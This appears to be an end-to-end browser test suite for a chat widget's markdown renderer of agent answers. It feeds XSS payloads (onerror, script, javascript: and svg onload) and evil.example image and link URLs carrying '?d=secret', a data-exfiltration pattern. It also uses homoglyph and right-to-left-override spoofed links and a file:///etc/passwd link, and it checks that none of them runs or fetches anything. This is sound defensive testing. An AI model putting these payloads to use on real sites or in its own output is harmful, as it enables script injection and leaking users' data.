// N56, N57: what an agent writes, in a real browser with the built view. Nothing runs, nothing is fetched, and the nodes
// are the same however the text was cut.
import { readFileSync } from "node:fs";
import { expect, test } from "./fixtures.ts";
import { visitMarkdown } from "./markdown-page.ts";

const dataOf = (file: string): string[] => JSON.parse(readFileSync(`e2e/data/${file}.json`, "utf8"));

/** Where an answer may carry a payload. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `[${payload}](https://e.example/)`,
  (payload) => `[x](${payload})`,
  (payload) => `![x](<${payload}> "t")`,
  (payload) => `a <${payload}> [r][r]\n\n[r]: ${payload}`,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `\`\`\`${payload}\n${payload}\n\`\`\`\n> - ${payload}`,
];

/** Deterministic markdown out of pieces that mean something together. */
function generated(count: number): string[] {
  const atoms = [
    ..."*_`~[]()!<>|#-+\\&:;\n\n \"'=/",
    ..."**,](,)](,![,<img src=x onerror=alert(1)>,<script>alert(1)</script>,javascript:alert(1),data:text/html;<b>,\n```\n,\n| a |\n|---|\n| ".split(
      ",",
    ),
    ..."https://e.example/,<https://e.example/>,[^1],\n[a]: javascript:alert(1)\n,\n[a]: https://e.example/?d=\n,[a],&#106;avascript:,on,\u202e,\u200b,<svg onload=alert(1)>,word".split(
      ",",
    ),
  ];
  let seed = 20_261_121;
  const below = (limit: number) => (seed = (seed * 48_271) % 2_147_483_647) % limit;
  return Array.from({ length: count }, () =>
    Array.from({ length: 3 + below(25) }, () => atoms[below(atoms.length)]).join(""),
  );
}

test.describe("N56: hostile texts", () => {
  const sets: [title: string, texts: string[], splits: number][] = [
    [
      "DOMPurify's payloads in every place",
      dataOf("dompurify-payloads").flatMap((text) => PLACES.map((place) => place(text))),
      1,
    ],
    [
      "naughty strings in every place",
      dataOf("naughty-strings").flatMap((text) => PLACES.map((place) => place(text))),
      1,
    ],
    ["generated markdown", generated(1200), 4],
  ];
  for (const [title, texts, splits] of sets) {
    test(title, async ({ page, site }) => {
      test.setTimeout(120_000);
      await visitMarkdown(page, site);
      const requests: string[] = [];
      const dialogs: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      page.on("dialog", (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const startedAt = Date.now();
      const found = await page.evaluate(([list, count]) => window.checkTexts(list, count), [
        texts,
        splits,
      ] as const);
      console.log(`${found.texts} texts in ${Date.now() - startedAt} ms`);
      expect(found.sinks).toEqual([]);
      expect(found.unequal).toEqual([]);
      expect(found.calls).toBe(0);
      expect(dialogs).toEqual([]);
      // The view's own parts, and the images of the one host that is allowed here.
      const own = (url: string) => url.startsWith(`${site.origin}/widget/`);
      expect(requests.filter((url) => !own(url) && !url.startsWith("https://img.example/"))).toEqual([]);
    });
  }
});

test("N57: the injection set makes no request by itself, and links say where they lead", async ({
  page,
  visit,
  chat,
  product,
  site,
}) => {
  const strangers: string[] = [];
  page.on("request", (request) => {
    const { origin } = new URL(request.url());
    if (origin !== product.hub && origin !== site.origin && origin !== "null") strangers.push(request.url());
  });
  await visit({ attributes: 'data-agent="echo"' });
  await chat.launcher.click();
  await chat.ask(`![pixel](https://evil.example/p.png?d=secret) ![photo](https://evil.example/photo.png)
![by reference][p] [reference link][p]
<img src="https://evil.example/html.png"> <svg><image href="https://evil.example/svg.png"/></svg>
<div style="background:url(https://evil.example/css.png)">x</div>
<link rel="prefetch" href="https://evil.example/prefetch">
<https://evil.example/auto?d=secret> https://evil.example/bare?d=secret
[data](https://evil.example/?d=secret) [mail](mailto:a@evil.example?body=secret)
[bank.example](https://evil.example/) [https://аpple.com](https://аpple.com/)
[run](javascript:alert(1)) [plain](http://evil.example/) [file](file:///etc/passwd)
[safe\u202egpj.exe](https://evil.example/\u202e) [zero\u200bwidth](https://evil.example/z)

[p]: https://evil.example/ref.png?d=secret`);
  await expect(chat.stop).toHaveCount(0);
  const links = chat.answers.locator(".md a");
  await expect(links).not.toHaveCount(0);
  const seen = await links.evaluateAll((all) =>
    all.map((link) => {
      if (!(link instanceof HTMLAnchorElement)) throw new Error("no link");
      const { href, rel, target, title, textContent, nextSibling } = link;
      return {
        href,
        rel,
        target,
        title,
        text: textContent,
        after: nextSibling?.textContent?.slice(0, 20) ?? "",
      };
    }),
  );
  // Nothing else is a link: neither "run" nor "plain" nor "file". What follows a bare address stays with it.
  const evil = "https://evil.example/";
  expect(seen.map(({ text, href }) => [text, href])).toEqual([
    ["pixel", `${evil}p.png?d=secret`],
    ["photo", `${evil}photo.png`],
    ["by reference", `${evil}ref.png?d=secret`],
    ["reference link", `${evil}ref.png?d=secret`],
    [`${evil}html.png">`, `${evil}html.png%22%3E`],
    [`${evil}svg.png"/>`, `${evil}svg.png%22/%3E`],
    [`${evil}css.png)">x`, `${evil}css.png)%22%3Ex`],
    [`${evil}prefetch">`, `${evil}prefetch%22%3E`],
    [`${evil}auto?d=secret`, `${evil}auto?d=secret`],
    [`${evil}bare?d=secret`, `${evil}bare?d=secret`],
    ["data", `${evil}?d=secret`],
    ["mail", "mailto:a@evil.example?body=secret"],
    ["bank.example", evil],
    ["https://аpple.com", "https://xn--pple-43d.com/"],
    ["safegpj.exe", evil],
    ["zerowidth", `${evil}z`],
  ]);
  for (const link of seen) {
    expect(link.rel).toBe("noopener noreferrer nofollow ugc");
    expect(link.target).toBe("_blank");
    const { protocol, host, pathname } = new URL(link.href);
    expect(link.title).toBe(protocol === "mailto:" ? pathname : host);
  }
  const textOf = (text: string) => seen.find((link) => link.text === text);
  expect(textOf("bank.example")?.after).toMatch(/^ \(evil\.example\)/);
  expect(textOf("https://аpple.com")?.after).toMatch(/^ \(xn--pple-43d\.com\)/);
  await expect(chat.answers.locator(":is(img, svg image, link, style, iframe)")).toHaveCount(0);
  expect(strangers).toEqual([]);
});
